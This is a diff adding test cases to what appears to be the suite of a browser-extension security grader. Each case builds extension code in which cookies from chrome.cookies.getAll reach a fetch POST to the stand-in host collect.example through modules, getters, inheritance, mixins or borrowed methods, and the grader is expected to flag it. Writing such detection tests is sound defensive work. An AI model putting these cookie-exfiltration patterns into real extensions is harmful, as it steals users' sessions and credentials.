@@ -56,3 +56,67 @@ it('tells objects of two classes apart', async () => {
     ),
   ).not.toBe('F');
 });
+
+const SEND = (what: string): string =>
+  `fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(${what}) })`;
+const GET = 'await chrome.cookies.getAll({})';
+
+/* Further ways from one script's class to another's. */
+const PROGRAMS: readonly (readonly [name: string, background: string, files: Readonly<Record<string, string>>])[] = [
+  [
+    'a class of a whole module',
+    `import * as ns from './a.js'; (async () => { const a = new ns.A(); a.put(DATA); ${SEND('a.x')}; })();`,
+    { 'a.js': 'export class A { put(v) { this.x = v; } }' },
+  ],
+  [
+    'an instance that a third script reads',
+    "import { A } from './a.js'; import { send } from './c.js'; (async () => { const a = new A(); a.put(DATA); send(a); })();",
+    { 'a.js': 'export class A { put(v) { this.x = v; } }', 'c.js': `export const send = (a) => ${SEND('a.x')};` },
+  ],
+  [
+    'a getter',
+    `import { A } from './a.js'; (async () => { const a = new A(); a.v = DATA; ${SEND('a.text')}; })();`,
+    { 'a.js': 'export class A { get text() { return JSON.stringify(this.v); } }' },
+  ],
+  [
+    'a class below fills, one above sends',
+    "import { Mid } from './b.js'; class Jar extends Mid { async collect() { this.data = DATA; } } const j = new Jar(); j.collect().then(() => j.send());",
+    {
+      'b.js': "import { Base } from './a.js'; export class Mid extends Base {}",
+      'a.js': `export class Base { send() { ${SEND('this.data')}; } }`,
+    },
+  ],
+  [
+    'handed to the constructor above',
+    "import { Base } from './a.js'; class Jar extends Base { constructor(c) { super({ jar: c }); } } (async () => new Jar(DATA).send())();",
+    { 'a.js': `export class Base { constructor({ jar }) { this.c = jar; } send() { ${SEND('this.c')}; } }` },
+  ],
+  [
+    'what a function made of a class',
+    "import { sends } from './a.js'; class Jar extends sends(Object) { async collect() { this.data = DATA; } } const j = new Jar(); j.collect().then(() => j.send());",
+    { 'a.js': `export const sends = (B) => class extends B { send() { ${SEND('this.data')}; } };` },
+  ],
+  [
+    'a method that is lent to another object',
+    `const acts = { put(all) { this.all = all; } }; const store = {}; for (const k of Object.keys(acts)) store[k] = (...given) => acts[k].apply(store, given); (async () => { store.put(DATA); ${SEND('store.all')}; })();`,
+    {},
+  ],
+];
+
+it.each(PROGRAMS)('%s', async (_, background, files) => {
+  const manifest = { background: { service_worker: 'background.js', type: 'module' } };
+  const grade = (data: string): Promise<string> =>
+    graded({ background: background.replace('DATA', data), manifest, files });
+  expect(await grade(GET)).toBe('F');
+  expect(await grade("'nothing'")).toMatch(/^A/);
+});
+
+it('does not give what one class holds to another that inherits from the same', async () => {
+  const background = `import { Base } from './a.js';
+    class Jar extends Base { async collect() { this.data = ${GET}; } }
+    class Other extends Base { send() { ${SEND('this.data')}; } }
+    new Jar().collect(); new Other().send();`;
+  const manifest = { background: { service_worker: 'background.js', type: 'module' } };
+  const files = { 'a.js': 'export class Base { stop() {} }' };
+  expect(await graded({ background, manifest, files })).toMatch(/^A/);
+});
